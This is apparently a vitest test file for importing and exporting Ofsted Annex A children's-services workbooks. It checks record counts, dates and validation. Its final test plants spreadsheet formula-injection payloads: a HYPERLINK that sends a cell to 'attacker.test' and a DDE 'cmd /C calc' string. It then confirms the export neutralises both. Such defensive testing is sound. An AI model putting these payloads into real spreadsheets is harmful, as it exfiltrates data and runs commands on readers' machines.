import fs from 'node:fs';
import path from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../../db/schema';
import { createTestDb, dialects, type TestDb } from '../../testing/test-db';
import { ReturnUnreadable, runImport, type ReturnFile } from './import-run';
import { createAnnexAImporter } from './annex-a.import';
import { exportAnnexA } from './annex-a.export';

const SAMPLE = path.join(path.dirname(fileURLToPath(import.meta.url)), 'fixtures', 'SocialFinanceDigitalLabs__liia-tools__liiatools__spec__annex_a__samples__Annex_A.xlsx');

const fromFile = (file: string): ReturnFile => ({ name: path.basename(file), size: fs.statSync(file).size, open: () => fs.createReadStream(file) });
const fromBuffer = (name: string, buffer: Buffer): ReturnFile => ({ name, size: buffer.length, open: () => Readable.from([buffer]) });

/** The row of a sheet whose first cell is the child's id. */
function rowOf(sheet: ExcelJS.Worksheet, id: string): ExcelJS.Row {
  let found: ExcelJS.Row | undefined;
  sheet.eachRow((row) => { if (row.getCell(1).value === id) found ??= row; });
  return found!;
}

/** A workbook built here: each sheet a header row and rows of values. */
async function workbook(sheets: Record<string, unknown[][]>): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  for (const [name, rows] of Object.entries(sheets)) wb.addWorksheet(name).addRows(rows);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

async function exported(t: TestDb, partnershipId: number, from: string, to: string): Promise<{ buffer: Buffer; lists: Record<string, number> }> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const lists = await exportAnnexA(t.db, { partnershipId, from, to, out });
  return { buffer: Buffer.concat(chunks), lists };
}

type Table = keyof Database & string;
const TABLES: Table[] = ['child', 'contact', 'early_help_assessment', 'referral', 'assessment', 's47_enquiry', 'initial_conference', 'cp_plan', 'cp_visit',
  'cp_plan_review', 'cla_episode', 'cla_review', 'health_assessment', 'care_leaver', 'placed_for_adoption', 'adopter'];

describe.each(dialects())('the Ofsted Annex A workbook (%s)', (dialect) => {
  let t: TestDb;
  let next = 0;
  beforeAll(async () => { t = await createTestDb(dialect); });
  afterAll(async () => { await t?.close(); });

  const partnership = async () => (await t.db.insertInto('partnership').values({ la_code: String(900 + next), name: `LA ${next++}` }).returning('id').executeTakeFirstOrThrow()).id;
  const run = (partnershipId: number, file: ReturnFile) => runImport(t.db, createAnnexAImporter({ partnershipId }), { partnershipId, files: [file], importedBy: 'test' });
  const count = async (table: Table, partnershipId: number) =>
    Number((await t.db.selectFrom(table as 'child').select((eb) => eb.fn.countAll<string>().as('n')).where('partnership_id', '=', partnershipId).executeTakeFirstOrThrow()).n);

  /** Every record of the partnership, as the journey holds it, without ids or bookkeeping: comparable across partnerships. */
  async function records(partnershipId: number): Promise<Record<string, unknown[]>> {
    const children = new Map((await t.db.selectFrom('child').select(['id', 'la_child_id']).where('partnership_id', '=', partnershipId).execute()).map((c) => [c.id, c.la_child_id]));
    const referrals = new Map((await t.db.selectFrom('referral').select(['id', 'child_id', 'referral_date']).where('partnership_id', '=', partnershipId).execute())
      .map((r) => [r.id, `${children.get(r.child_id)}@${r.referral_date}`]));
    const plans = new Map((await t.db.selectFrom('cp_plan').select(['id', 'referral_id', 'start_date']).where('partnership_id', '=', partnershipId).execute())
      .map((p) => [p.id, `${referrals.get(p.referral_id)}/${p.start_date}`]));
    const s47s = new Map((await t.db.selectFrom('s47_enquiry').select(['id', 'referral_id', 'start_date']).where('partnership_id', '=', partnershipId).execute())
      .map((s) => [s.id, `${referrals.get(s.referral_id)}/${s.start_date}`]));
    const out: Record<string, unknown[]> = {};
    for (const table of TABLES) {
      const rows = (await t.db.selectFrom(table as 'child').selectAll().where('partnership_id', '=', partnershipId).execute()) as Record<string, unknown>[];
      out[table] = rows.map((row) => {
        const { id: _id, partnership_id: _p, version: _v, created_at: _c, updated_at: _u, source_year: _y, ...rest } = row;
        for (const [k, map] of [['child_id', children], ['referral_id', referrals], ['cp_plan_id', plans], ['s47_enquiry_id', s47s]] as const) {
          if (k in rest) rest[k] = rest[k] === null ? null : map.get(rest[k] as string);
        }
        return rest;
      }).sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));
    }
    return out;
  }

  let sampleLa: number;

  it('imports the sample into the records of each list, and a second import changes nothing', async () => {
    sampleLa = await partnership();
    const first = await run(sampleLa, fromFile(SAMPLE));
    expect(first.outcome).toBe('succeeded');
    expect(first.collectionYear).toBe(2020);
    expect(first.summary.lists).toEqual({ 1: 5, 2: 5, 3: 6, 4: 5, 5: 5, 6: 5, 7: 7, 8: 5, 9: 6, 10: 5, 11: 5 });
    expect(await count('contact', sampleLa)).toBe(5);
    expect(await count('early_help_assessment', sampleLa)).toBe(5);
    expect(await count('assessment', sampleLa)).toBe(5);
    expect(await count('s47_enquiry', sampleLa)).toBe(5);
    expect(await count('initial_conference', sampleLa)).toBe(3);
    expect(await count('cp_plan', sampleLa)).toBe(7);
    expect(await count('cp_visit', sampleLa)).toBe(7);
    expect(await count('cp_plan_review', sampleLa)).toBe(5);
    expect(await count('care_leaver', sampleLa)).toBe(6);
    expect(await count('placed_for_adoption', sampleLa)).toBe(5);
    expect(await count('adopter', sampleLa)).toBe(5);
    expect(await count('cla_review', sampleLa)).toBe(5);
    expect(await count('health_assessment', sampleLa)).toBe(5);
    // Referrals: 6 from List 3, 5 CIN episodes from List 6, one the S47 of a List 3 child joins, and one
    // opened for each assessment, S47 and plan of a child with no earlier referral.
    expect(await count('referral', sampleLa)).toBe(11 + (first.summary.referralsOpened as number));

    const child = await t.db.selectFrom('child').selectAll().where('partnership_id', '=', sampleLa).where('la_child_id', '=', '11973218').executeTakeFirstOrThrow();
    expect(child).toMatchObject({ sex: 'F', ethnicity: 'APKN', date_of_birth: null, source: 'annex_a', source_year: 2020 });
    const contact = await t.db.selectFrom('contact').selectAll().where('child_id', '=', child.id).executeTakeFirstOrThrow();
    expect(contact).toMatchObject({ contact_date: '2020-09-16', contact_source: '6' });

    // An unknown code is reported, under the DfE rule that guards its item, and loaded as written.
    const issues = await t.db.selectFrom('validation_issue').selectAll().where('import_run_id', '=', first.runId).execute();
    expect(issues.find((i) => i.la_child_id === '12598894')).toMatchObject({ rule: '8650', location: 'List 6 row 2, Primary Need Code' });
    expect(issues.find((i) => i.location === 'List 9 row 6, Activity Status')).toMatchObject({ rule: '132', la_child_id: '6102196' });

    const again = await run(sampleLa, fromFile(SAMPLE));
    for (const [table, c] of Object.entries(again.counts)) expect({ table, created: c.created, updated: c.updated }).toEqual({ table, created: 0, updated: 0 });
    expect(again.summary.referralsOpened).toBe(0);
  });

  it('exports the window as Ofsted’s workbook, and importing it into another partnership gives the same records', async () => {
    const { buffer, lists } = await exported(t, sampleLa, '1990-01-01', '2021-03-31');
    expect(lists).toMatchObject({ 'List 1': 5, 'List 2': 5, 'List 4': 5, 'List 5': 5, 'List 7': 7, 'List 8': 5, 'List 9': 6, 'List 10': 5, 'List 11': 5 });

    const book = new ExcelJS.Workbook();
    await book.xlsx.load(buffer as unknown as ArrayBuffer);
    expect(book.worksheets.map((s) => s.name)).toEqual(Array.from({ length: 11 }, (_, i) => `List ${i + 1}`));
    const list1 = book.getWorksheet('List 1')!;
    expect(list1.getRow(1).values).toEqual([undefined, 'Child Unique ID', 'Gender', 'Ethnicity', 'Date of Birth', 'Age of Child (Years)', 'Date of Contact', 'Contact Source']);
    expect(list1.getRow(1).font?.bold).toBe(true);
    expect(list1.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const row = rowOf(list1, '11973218');
    expect(row.getCell(2).value).toBe('b) Female');
    expect(row.getCell(3).value).toBe('k) APKN');
    expect(row.getCell(6).value).toEqual(new Date('2020-09-16T00:00:00Z'));
    expect(row.getCell(6).numFmt).toBe('dd/mm/yyyy');
    expect(row.getCell(7).value).toBe('q) 6: Police');
    // Derived: the age at the window's end.
    const referral = rowOf(book.getWorksheet('List 3')!, '997679');
    expect(referral.getCell(5).value).toBe(0);
    expect(referral.getCell(7).value).toBe('q) 6: Police');

    const other = await partnership();
    const back = await run(other, fromBuffer('annex-a.xlsx', buffer));
    expect(back.outcome).toBe('succeeded');
    expect(back.collectionYear).toBe(2020);
    expect(await records(other)).toEqual(await records(sampleLa));
  });

  it('reads labelled values, and dates written as text, as Excel dates and as date serials', async () => {
    const la = await partnership();
    const header = ['Child Unique ID', 'Gender', 'Ethnicity', 'Date of Birth', 'Age', 'Date of Referral', 'Referral Source', 'Referral NFA?'];
    const file = await workbook({ 'List 3 - Referrals': [header,
      ['A1', 'b) Female', 'a) WBRI', '25/01/2015', 9, '16/09/2020', 'q) 6: Police', 'No'],
      ['A2', 'Male', 'APKN', new Date(Date.UTC(2012, 7, 8)), null, '2020-09-17', '2A', 'b) No'],
      ['A3', 'c) Not stated/recorded', 's) NOBT', null, null, new Date(Date.UTC(2020, 8, 18)), 'e) 2A: Schools', 'Yes'],
      ['A4', 'a) Male', 'r) OOTH', null, null, 44093, '5D', 'a) Yes'],
    ] });
    const result = await run(la, fromBuffer('labelled.xlsx', file));
    // 5D (early help) is a referral source from 2022-23: a referral of 2020 is judged by its own year's list.
    const issues = await t.db.selectFrom('validation_issue').select(['rule', 'la_child_id', 'location']).where('import_run_id', '=', result.runId).execute();
    expect(issues).toEqual([{ rule: '8866', la_child_id: 'A4', location: 'List 3 row 5, Referral Source' }]);
    const rows = await t.db.selectFrom('referral').innerJoin('child', 'child.id', 'referral.child_id')
      .select(['la_child_id', 'sex', 'ethnicity', 'date_of_birth', 'referral_date', 'referral_source', 'referral_nfa'])
      .where('referral.partnership_id', '=', la).orderBy('la_child_id').execute();
    expect(rows).toEqual([
      { la_child_id: 'A1', sex: 'F', ethnicity: 'WBRI', date_of_birth: '2015-01-25', referral_date: '2020-09-16', referral_source: '6', referral_nfa: false },
      { la_child_id: 'A2', sex: 'M', ethnicity: 'APKN', date_of_birth: '2012-08-08', referral_date: '2020-09-17', referral_source: '2A', referral_nfa: false },
      { la_child_id: 'A3', sex: 'U', ethnicity: 'NOBT', date_of_birth: null, referral_date: '2020-09-18', referral_source: '2A', referral_nfa: true },
      { la_child_id: 'A4', sex: 'M', ethnicity: 'OOTH', date_of_birth: null, referral_date: '2020-09-19', referral_source: '5D', referral_nfa: true },
    ]);
  });

  it('writes nothing from a workbook with a missing column or a date that is not a date, and says where', async () => {
    const la = await partnership();
    const contacts = [['Child Unique ID', 'Gender', 'Ethnicity', 'Date of Birth', 'Date of Contact', 'Contact Source'], ['B1', 'Male', 'WBRI', null, '01/05/2023', '6']];
    const referrals = (date: string) => [['Child Unique ID', 'Gender', 'Ethnicity', 'Date of Birth', 'Date of referral', 'Referral Source', 'Referral NFA?'],
      ...Array.from({ length: 10 }, (_, i) => [`B${i + 2}`, 'Female', 'WBRI', null, '02/05/2023', '6', 'No']),
      ['B99', 'Female', 'WBRI', null, date, '6', 'No']];

    const missing = await workbook({ 'List 1': contacts, 'List 3': referrals('03/05/2023').map((r) => r.filter((_, i) => i !== 5)) });
    await expect(run(la, fromBuffer('missing.xlsx', missing))).rejects.toThrow(ReturnUnreadable);
    await expect(run(la, fromBuffer('missing.xlsx', missing))).rejects.toThrow('Sheet "List 3": the column "Referral Source" is missing');

    const badDate = await workbook({ 'List 1': contacts, 'List 3': referrals('31/02/2023') });
    await expect(run(la, fromBuffer('bad-date.xlsx', badDate))).rejects.toThrow('List 3 row 12, Date of referral: "31/02/2023" is not a date');

    expect(await count('child', la)).toBe(0);
    expect(await count('contact', la)).toBe(0);
    const runs = await t.db.selectFrom('import_run').select(['outcome', 'error']).where('partnership_id', '=', la).execute();
    expect(runs.map((r) => r.outcome)).toEqual(['failed', 'failed', 'failed']);
    expect(runs[2]!.error).toContain('List 3 row 12');
  });

  it('neutralises formula injection in the export: a child id "=HYPERLINK(...)" comes back as text', async () => {
    const la = await partnership();
    const evil = '=HYPERLINK("http://attacker.test/?leak="&A3,"Open")';
    const file = await workbook({
      'List 1': [['Child Unique ID', 'Gender', 'Ethnicity', 'Date of Birth', 'Date of Contact', 'Contact Source'], [evil, 'Male', 'WBRI', null, '01/05/2023', '6']],
      'List 2': [['Child Unique ID', 'Gender', 'Ethnicity', 'Date of Birth', 'Assessment start date', 'Assessment completion date', 'Organisation completing assessment'],
        [evil, 'Male', 'WBRI', null, '02/05/2023', null, '@SUM(1+1)*cmd|" /C calc"!A0']],
    });
    await run(la, fromBuffer('evil.xlsx', file));
    const { buffer } = await exported(t, la, '2023-04-01', '2023-09-30');

    const book = new ExcelJS.Workbook();
    await book.xlsx.load(buffer as unknown as ArrayBuffer);
    const id = book.getWorksheet('List 1')!.getRow(2).getCell(1);
    expect(id.value).toBe(`'${evil}`);
    expect(id.type).toBe(ExcelJS.ValueType.String);
    expect(book.getWorksheet('List 2')!.getRow(2).getCell(8).value).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);

    const other = await partnership();
    await run(other, fromBuffer('export.xlsx', buffer));
    const child = await t.db.selectFrom('child').select('la_child_id').where('partnership_id', '=', other).executeTakeFirstOrThrow();
    expect(child.la_child_id).toBe(evil);
  });
});

